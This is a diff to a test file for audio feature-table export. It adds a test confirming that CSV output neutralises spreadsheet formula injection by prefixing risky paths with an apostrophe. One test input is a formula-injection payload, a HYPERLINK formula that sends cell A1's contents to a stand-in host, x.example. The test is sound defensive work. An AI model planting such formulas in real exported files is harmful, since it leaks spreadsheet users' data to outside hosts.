@@ -306,6 +306,14 @@ describe("feature tables", () => {
     expect(csv).toBe(`path,start_time,end_time,rms_dbfs\n"a ""b"", c.wav",0.5,1,${values.rms_dbfs}\n`);
   });
 
+  it("CSV writes a path a spreadsheet would run as a formula (=, +, -, @) after a ', and numbers as they are", async () => {
+    const values = await computeCase(byName("tone"));
+    const rows = ["=HYPERLINK(\"http://x.example/?\"&A1).wav", "+1+1.wav", "-2.wav", "@SUM(A1).wav"].map((path) => ({ path, values: { ...values, rms_dbfs: -12.5 } }));
+    expect(featureTableCsv(rows, ["rms_dbfs"], { stored: false, clips: false })).toBe(
+      `path,rms_dbfs\n"'=HYPERLINK(""http://x.example/?""&A1).wav",-12.5\n'+1+1.wav,-12.5\n'-2.wav,-12.5\n'@SUM(A1).wav,-12.5\n`,
+    );
+  });
+
   it("rows of stored records lead with their ids, in CSV, the .npy sidecar and Parquet alike", async () => {
     const values = await computeCase(byName("tone"));
     const rows = [{ path: "night/a.wav", recordingId: "r-1", clip: { id: "c-1", start: 0.5, end: 1 }, values }];
